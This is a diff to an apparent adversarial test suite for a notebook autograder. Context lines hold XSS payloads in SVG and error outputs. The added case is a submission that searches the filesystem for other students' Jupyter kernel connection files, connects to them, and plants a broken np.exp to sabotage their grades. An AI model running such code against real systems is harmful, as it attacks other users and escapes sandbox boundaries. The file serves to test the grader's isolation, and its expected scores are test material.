@@ -212,6 +212,26 @@ attacks["b13_script_in_outputs"] = (honest(
         "display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><script>alert(\"XSS-SVG\")</script></svg>'))\n"),
     normalise_answer="def normalise(alpha):\n    raise ValueError('<script>alert(\"XSS-ERR\")</script>')\n"),
     {"score": 8, "flagged": False, "no_script": True})
+# The grader starts the next notebook's kernel while this one runs: find it and plant a broken softmax
+# in it (the next student would lose points), or shut it down.  Its box and sockets are not in this
+# sandbox's view, so nothing is found and nothing is tried (no socket, no flag).
+attacks["b14_reach_the_next_kernel"] = (honest(query_key_value_answer=SOL["query_key_value_answer"] + (
+    "\nimport os\nfrom ipykernel import get_connection_file\n"
+    "_own = os.path.realpath(get_connection_file())\n_back = os.getcwd()\n_planted = False\n"
+    "def _plant(path):\n"
+    "    try:\n        from jupyter_client import BlockingKernelClient\n"
+    "        os.chdir(os.path.dirname(path))  # IPC sockets are named relative to the kernel's folder\n"
+    "        kc = BlockingKernelClient()\n        kc.load_connection_file(path)\n        kc.start_channels()\n"
+    "        kc.execute_interactive('import numpy as np; np.exp = lambda x: x * 0', timeout=5)\n"
+    "        return True\n    except Exception:\n        return False\n    finally:\n        os.chdir(_back)\n"
+    "for _top in (os.path.dirname(os.path.dirname(_own)), '/mnt', '/proc/1/root/mnt', '{COURSE}'):\n"
+    "    for _root, _dirs, _files in os.walk(_top):\n"
+    "        if _root.count('/') - _top.count('/') >= 3:\n            _dirs[:] = []\n"
+    "        _path = os.path.join(_root, 'kernel.json')\n"
+    "        if 'kernel.json' in _files and os.path.realpath(_path) != _own:\n"
+    "            print('found', _path)\n            _planted = _plant(_path) or _planted\n"
+    "    if _planted:\n        break\nprint('planted' if _planted else 'nothing planted')\n")),
+    {"score": 10, "flagged": False})
 attacks["a10a_corrupt_json"] = (None, {"score": None, "status": "ungradable", "text": '{"cells": [ {"cell_'})
 attacks["a10b_empty_folder"] = (None, {"score": None, "status": "ungradable"})
 
